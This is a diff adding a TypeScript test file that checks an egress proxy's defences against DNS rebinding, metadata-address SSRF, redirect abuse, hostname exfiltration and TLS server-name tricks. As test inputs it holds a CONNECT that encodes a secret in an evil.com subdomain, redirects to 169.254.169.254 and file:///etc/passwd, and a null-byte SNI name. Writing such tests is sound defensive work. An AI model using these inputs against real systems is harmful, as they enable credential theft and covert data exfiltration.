@@ -1,0 +1,205 @@
+/** Attacks by names: rebinding, mixed answers, names as a channel, names hidden in TLS. */
+
+import { afterEach, describe, expect, it } from 'vitest'
+import { readClientHello } from '../../../src/egress/client-hello.ts'
+import { fetchGuarded } from '../../../src/egress/fetch.ts'
+import { createUpstream, type Route } from '../../../src/egress/upstream.ts'
+import type { Resolver } from '../../../src/system/dns.ts'
+import { createWorld, hosts, PUBLIC_ADDRESS, RawClient, type World } from '../../egress/world.ts'
+import { clientHello } from './hello.ts'
+
+const ALLOW = hosts('github.com', 'python.org', 'a.rebind.test', '*.rebind.test', '*.example.org')
+let world: World | null = null
+
+afterEach(async () => {
+  await world?.close()
+  world = null
+})
+
+describe('resolution', () => {
+  const rows: { name: string; answer: readonly string[]; note: string }[] = [
+    { name: 'private', answer: ['10.0.0.1'], note: 'RFC 1918' },
+    { name: 'loopback', answer: ['127.0.0.1'], note: 'a public name that points home' },
+    { name: 'metadata', answer: ['169.254.169.254'], note: 'cloud credentials' },
+    { name: 'mixed', answer: [PUBLIC_ADDRESS, '10.0.0.1'], note: 'one bad address spoils the answer' },
+    { name: 'mixed-v6', answer: [PUBLIC_ADDRESS, '::1'], note: 'the bad one is IPv6' },
+    { name: 'mapped', answer: ['::ffff:10.0.0.1'], note: 'IPv4 inside IPv6' },
+    { name: 'nat64', answer: ['64:ff9b::7f00:1'], note: 'NAT64 of loopback' },
+    { name: 'cgnat', answer: ['100.64.0.1'], note: 'carrier-grade NAT' },
+    { name: 'unspecified', answer: ['0.0.0.0'], note: 'means this machine on Linux' },
+    { name: 'multicast', answer: ['224.0.0.1'], note: 'nobody in particular' },
+    { name: 'garbage', answer: ['not an address'], note: 'a resolver gone wrong' },
+    { name: 'nothing', answer: [], note: 'no such host' },
+  ]
+  it.each(rows)('$name is refused ($note)', async ({ answer }) => {
+    world = createWorld({ names: { 'github.com': answer } })
+    await world.serveHttps((_, response) => response.end('reached'))
+    const { port } = await world.open({ allowed: ALLOW })
+    const client = await RawClient.connect(port)
+    expect(await client.tunnel('github.com:443')).not.toContain(' 200 ')
+    client.close()
+    expect(world.events.map((event) => event.verdict)).not.toContain('allow')
+  })
+
+  it('dials what it judged, though the name changes its answer at once', async () => {
+    const dialled: Route[] = []
+    let asked = 0
+    const resolver: Resolver = { resolve: async () => (asked++ === 0 ? [PUBLIC_ADDRESS] : ['127.0.0.1']) }
+    world = createWorld({ resolver })
+    const spy = world
+    const upstream = createUpstream({
+      trust: [world.authority.pem],
+      dialer: (route) => {
+        dialled.push(route)
+        return spy.upstream.dial(route)
+      },
+    })
+    await world.serveHttps((_, response) => response.end('reached'))
+    const { port } = await world.open({ allowed: ALLOW }, { upstream })
+    const client = await RawClient.connect(port)
+    await client.tunnel('github.com:443')
+    const inside = await client.encrypt({ ca: world.ca.pem, servername: 'github.com' })
+    for (const _ of [1, 2, 3]) {
+      inside.send('GET / HTTP/1.1\r\nHost: github.com\r\n\r\n')
+      expect(await inside.receive((text) => text.includes('reached'))).toContain(' 200 ')
+    }
+    expect(asked).toBe(1)
+    expect(dialled.flatMap((route) => route.addresses)).toEqual([PUBLIC_ADDRESS])
+    inside.close()
+    const second = await RawClient.connect(port)
+    expect(await second.tunnel('github.com:443')).toContain(' 403 ')
+    second.close()
+  })
+
+  it('never asks DNS about a host that is not granted, so that names carry nothing out', async () => {
+    const asked: string[] = []
+    world = createWorld({ resolver: { resolve: async (host) => (asked.push(host), [PUBLIC_ADDRESS]) } })
+    const { port } = await world.open({ allowed: ALLOW })
+    for (const request of ['CONNECT c2VjcmV0.evil.com:443', 'GET http://c2VjcmV0.evil.com/']) {
+      const client = await RawClient.connect(port)
+      const host = /[\w.]*evil\.com(:443)?/.exec(request)![0]
+      client.send(`${request} HTTP/1.1\r\nHost: ${host}\r\n\r\n`)
+      expect(await client.receive()).toContain('host-unlisted')
+    }
+    expect(asked).toEqual([])
+  })
+
+  it('judges every redirect of a fetch, and what it resolves to', async () => {
+    world = createWorld({ names: { 'github.com': [PUBLIC_ADDRESS], 'python.org': ['10.0.0.8'] } })
+    const { resolver, upstream } = world
+    const places: Record<string, string> = {
+      '/private': 'http://192.168.0.1/',
+      '/metadata': 'http://169.254.169.254/latest/meta-data/',
+      '/rebound': 'https://python.org/',
+      '/unlisted': 'https://evil.com/',
+      '/file': 'file:///etc/passwd',
+      '/relative': '/end',
+      '/loop': '/loop',
+    }
+    await world.serveHttps((message, response) => {
+      const location = places[message.url!]
+      if (location === undefined) response.end(`end of ${message.headers.authorization ?? 'nobody'}`)
+      else response.writeHead(302, { location }).end()
+    })
+    const rules = { command: 'webfetch', allowed: ALLOW, denied: [], allowPrivate: false }
+    const fetched = async (path: string) => {
+      const result = await fetchGuarded(`https://github.com${path}`, {
+        rules,
+        resolver,
+        upstream,
+        headers: { authorization: 'me' },
+      })
+      return 'refusal' in result ? result.refusal.code : `${result.response.status} ${result.response.body}`
+    }
+    expect(await fetched('/private')).toBe('host-private')
+    expect(await fetched('/metadata')).toBe('host-metadata')
+    expect(await fetched('/rebound')).toBe('host-private')
+    expect(await fetched('/unlisted')).toBe('host-unlisted')
+    expect(await fetched('/file')).toBe('url-invalid')
+    expect(await fetched('/relative')).toBe('200 end of me')
+    expect(await fetched('/loop')).toBe('too-many-hops')
+  })
+})
+
+describe('names in TLS', () => {
+  const rows: { name: string; hello: Buffer; reached: boolean; note: string }[] = [
+    {
+      name: 'ECH, outer name another',
+      hello: clientHello({ serverName: 'cloudflare-ech.com', encrypted: true }),
+      reached: false,
+      note: 'the outer name must be the tunnel host',
+    },
+    {
+      name: 'outer name the host, ECH inside',
+      hello: clientHello({ serverName: 'github.com', encrypted: true }),
+      reached: true,
+      note: 'the hidden name ends here: our own TLS goes to the host',
+    },
+    {
+      name: 'two names',
+      hello: clientHello({ serverNames: ['github.com', 'evil.com'] }),
+      reached: false,
+      note: 'which one would the host take?',
+    },
+    {
+      name: 'the extension twice',
+      hello: clientHello({ serverName: 'github.com', repeated: 'evil.com' }),
+      reached: false,
+      note: 'RFC 8446 forbids it',
+    },
+    {
+      name: 'a zero byte',
+      hello: clientHello({ serverName: 'github.com\0.evil.com' }),
+      reached: false,
+      note: 'C strings end there',
+    },
+  ]
+  it.each(rows)('$name ($note)', async ({ hello, reached }) => {
+    world = createWorld()
+    const { port } = await world.open({ allowed: ALLOW })
+    const client = await RawClient.connect(port)
+    await client.tunnel('github.com:443')
+    client.send(hello)
+    // A handshake record is a server hello; an alert is 0x15.
+    const answer = await client.receive((text) => text.length > 0)
+    expect(answer.charCodeAt(0)).toBe(reached ? 0x16 : 0x15)
+    client.close()
+  })
+
+  it('refuses an encrypted hello where TLS is passed through unread', async () => {
+    world = createWorld()
+    const passthrough = hosts('github.com').map((rule) => rule.pattern)
+    await world.serveHttps((_, response) => response.end('reached'))
+    const { port } = await world.open({ allowed: ALLOW, passthrough })
+    const hidden = await RawClient.connect(port)
+    await hidden.tunnel('github.com:443')
+    hidden.send(clientHello({ serverName: 'github.com', encrypted: true }))
+    expect((await hidden.receive()).charCodeAt(0)).toBe(0x15)
+    expect(world.events.at(-1)?.code).toBe('hidden-name')
+    const open = await RawClient.connect(port)
+    await open.tunnel('github.com:443')
+    // The host's own certificate, not one of the session.
+    const inside = await open.encrypt({ ca: world.authority.pem, servername: 'github.com' })
+    inside.send('GET / HTTP/1.1\r\nHost: github.com\r\nConnection: close\r\n\r\n')
+    expect(await inside.receive()).toContain('reached')
+  })
+
+  it('reads a hello that comes byte by byte, and in several records', async () => {
+    world = createWorld()
+    const { port } = await world.open({ allowed: ALLOW })
+    const whole = clientHello({ serverName: 'evil.com' })
+    const body = whole.subarray(5)
+    const record = (part: Buffer) =>
+      Buffer.concat([Buffer.from([0x16, 3, 1, part.length >> 8, part.length & 255]), part])
+    const split = Buffer.concat([record(body.subarray(0, 3)), record(body.subarray(3, 60)), record(body.subarray(60))])
+    expect(readClientHello(split)).toEqual(readClientHello(whole))
+    const client = await RawClient.connect(port)
+    await client.tunnel('github.com:443')
+    for (const byte of split) {
+      client.send(Buffer.from([byte]))
+      await new Promise(setImmediate)
+    }
+    expect((await client.receive()).charCodeAt(0)).toBe(0x15)
+    expect(world.events.at(-1)?.code).toBe('name-mismatch')
+  })
+})
